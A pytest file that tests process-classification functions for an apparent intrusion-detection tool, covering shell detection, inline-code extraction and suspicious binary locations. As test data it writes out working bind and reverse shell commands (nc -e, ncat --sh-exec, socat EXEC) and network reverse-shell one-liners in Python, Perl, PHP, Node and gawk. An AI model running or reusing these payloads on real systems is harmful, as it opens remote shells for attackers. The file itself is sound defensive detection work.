"""What programs are, by their names and words."""

import pytest
from tests.detect.examples import process, stranger

from rootout.detect.programs import (
    gives_a_shell,
    inline_program,
    is_bare_shell,
    is_network_shell,
    lies_oddly,
    own_files,
    tool_of,
)


def run(program: str, *words: str, **given):
    return process(executable=program, arguments=words, **given)


@pytest.mark.parametrize(
    ("program", "words", "tool"),
    [
        ("/usr/bin/nc.openbsd", ("nc", "-l"), "nc.openbsd"),
        ("/bin/busybox", ("nc", "-l"), "nc"),
        ("/bin/busybox", ("/bin/busybox", "nc", "-l"), "nc"),
        ("/bin/busybox", ("-sh",), "sh"),
        ("/bin/busybox", ("busybox",), "busybox"),
        (None, (), ""),
    ],
)
def test_tool_is_named(program, words, tool):
    assert tool_of(run(program, *words)) == tool


@pytest.mark.parametrize(
    ("words", "is_bare"),
    [
        (("bash",), True),
        (("-bash",), True),
        (("bash", "-i"), True),
        (("bash", "--norc", "-i"), True),
        ((), True),
        (("bash", "/srv/x.sh"), False),
        (("bash", "-c", "id"), False),
        (("bash", "-lc"), False),
        (("cat",), True),
    ],
)
def test_shell_without_a_script_is_bare(words, is_bare):
    assert is_bare_shell(run("/usr/bin/bash", *words)) is is_bare
    assert not is_bare_shell(run("/usr/bin/cat", *words))


def test_shell_of_busybox_is_bare():
    assert is_bare_shell(run("/bin/busybox", "busybox", "sh", "-i"))
    assert not is_bare_shell(run("/bin/busybox", "busybox", "sh", "/x.sh"))


@pytest.mark.parametrize(
    ("program", "words", "text"),
    [
        ("/usr/bin/python3.11", ("python3", "-c", "x"), "x"),
        ("/usr/bin/python3.11", ("python3", "-W", "ignore", "-Ic", "x"), "x"),
        ("/usr/bin/perl", ("perl", "-MIO", "-we", "x"), "x"),
        ("/usr/bin/php8.2", ("php", "-r", "x"), "x"),
        ("/usr/bin/node", ("node", "--eval", "x"), "x"),
        ("/usr/bin/gawk", ("gawk", "-F", ":", "x", "/etc/passwd"), "x"),
        ("/usr/bin/gawk", ("gawk",), ""),
        ("/usr/bin/python3.11", ("python3", "/srv/x.py", "-c", "x"), ""),
        ("/usr/bin/python3.11", ("python3", "-m", "http.server"), ""),
        ("/usr/bin/python3.11", ("python3", "-c"), ""),
        ("/usr/bin/cat", ("cat", "-e", "x"), ""),
    ],
)
def test_program_in_the_arguments_is_read(program, words, text):
    assert inline_program(run(program, *words)) == text


@pytest.mark.parametrize(
    "words",
    [
        ("nc.traditional", "-l", "-p", "40404", "-e", "/bin/sh"),
        ("nc", "-lvpe", "/bin/bash"),
        ("ncat", "--exec", "/bin/bash", "-l", "1"),
        ("ncat", "--sh-exec=bash -i", "203.0.113.9", "1"),
        ("socat", "TCP-LISTEN:1,fork", "EXEC:/bin/sh"),
        ("socat", "tcp:203.0.113.9:1", "exec:bash -li,pty,stderr"),
        ("socat", "OPENSSL:203.0.113.9:1,verify=0", "EXEC:'/bin/bash -i',pty"),
        ("socat", "UDP4-LISTEN:1", "SYSTEM:bash"),
    ],
)
def test_relay_that_hands_out_a_shell_is_known(words):
    assert gives_a_shell(run(f"/usr/bin/{words[0]}", *words))


@pytest.mark.parametrize(
    "words",
    [
        ("nc", "-z", "host", "80"),
        ("nc", "-c", "sh.example.com", "443"),
        ("nc", "-l", "1", "-e", "/usr/local/bin/health.sh"),
        ("nc", "-l", "1", "-e"),
        ("ncat", "-l", "1", "--sh-exec", "bash -c 'date'"),
        ("socat", "TCP-LISTEN:1,fork", "EXEC:/usr/local/bin/health.sh"),
        ("socat", "TCP-LISTEN:1,fork", "EXEC:/bin/sh /srv/health"),
        ("socat", "TCP-LISTEN:1,fork", "SYSTEM:echo ok; sh"),
        ("socat", "-", "EXEC:ssh host,pty"),
        ("socat", "UNIX-LISTEN:/run/x", "EXEC:/bin/sh"),
        ("cat", "-e", "/bin/sh"),
    ],
)
def test_relay_that_hands_out_no_shell_is_left_alone(words):
    assert not gives_a_shell(run(f"/usr/bin/{words[0]}", *words))


@pytest.mark.parametrize(
    "program",
    [
        "import socket,os,pty;s=socket.socket();s.connect(('x',1));pty.spawn('sh')",
        "use Socket;socket(S,PF_INET);exec('/bin/sh -i')",
        '$s=fsockopen("x",1);shell_exec("sh <&3 >&3 2>&3");',
        "require('net').connect(1,'x',function(){require('child_process').spawn('sh')})",
        "$c=new IO::Socket::INET(PeerAddr,'x:1');STDIN->fdopen($c,r);system$_ while<>",
        'BEGIN{s="/inet/tcp/0/x/1";while(1){s|&getline c;while((c|&getline)>0)print|&s}}',
    ],
)
def test_words_that_open_a_shell_to_the_network_are_known(program):
    assert is_network_shell(program)


@pytest.mark.parametrize(
    "program",
    [
        "import socket;socket.create_connection(('database',5432))",
        "import subprocess;subprocess.run(['/bin/sh'])",
        'BEGIN{s="/inet/tcp/0/x/80";print "GET /"|&s;while((s|&getline)>0)print}',
        "",
    ],
)
def test_words_that_do_one_of_both_are_left_alone(program):
    assert not is_network_shell(program)


def test_own_files_are_the_program_and_its_script():
    assert list(own_files(run("/usr/bin/python3.11", "python3", "-u", "/srv/x.py"))) == [
        "/usr/bin/python3.11",
        "/srv/x.py",
    ]
    assert list(own_files(run("/usr/bin/python3.11", "python3", "-c", "/srv/x.py"))) == [
        "/usr/bin/python3.11"
    ]
    assert list(own_files(run("/usr/bin/bash", "bash", "x.sh"))) == ["/usr/bin/bash"]
    assert list(own_files(run("/usr/bin/cat", "cat", "/srv/x"))) == ["/usr/bin/cat"]
    assert list(own_files(run(None))) == []


@pytest.mark.parametrize(
    "odd",
    [
        stranger("/opt/x", is_deleted=True),
        stranger("/memfd:x", in_memory=True),
        stranger("/tmp/x"),
        stranger("/usr/lib/.x/y"),
        run("/usr/bin/python3.11", "python3", "/dev/shm/x.py"),
    ],
)
def test_odd_place_is_known(odd):
    assert lies_oddly(odd)


@pytest.mark.parametrize(
    "plain",
    [
        stranger("/opt/x"),
        stranger("/home/ann/.nvm/versions/node"),
        run("/usr/bin/cat", "cat", is_deleted=True),
        run("/usr/bin/python3.11", "python3", "/srv/x.py"),
    ],
)
def test_plain_place_is_left_alone(plain):
    assert not lies_oddly(plain)
